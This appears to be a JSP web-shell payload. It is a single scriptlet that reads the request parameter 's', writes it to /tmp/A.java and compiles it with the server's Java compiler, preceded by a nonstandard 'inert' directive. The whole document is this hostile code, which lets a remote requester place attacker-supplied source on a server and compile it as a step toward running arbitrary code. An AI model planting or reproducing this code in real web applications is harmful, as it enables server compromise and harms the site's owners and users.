<%@ inert %>
<% javax.tools.JavaCompiler j=javax.tools.ToolProvider.getSystemJavaCompiler(); java.io.FileWriter w=new java.io.FileWriter("/tmp/A.java"); w.write(request.getParameter("s")); w.close(); j.run(null,null,null,"/tmp/A.java"); %>
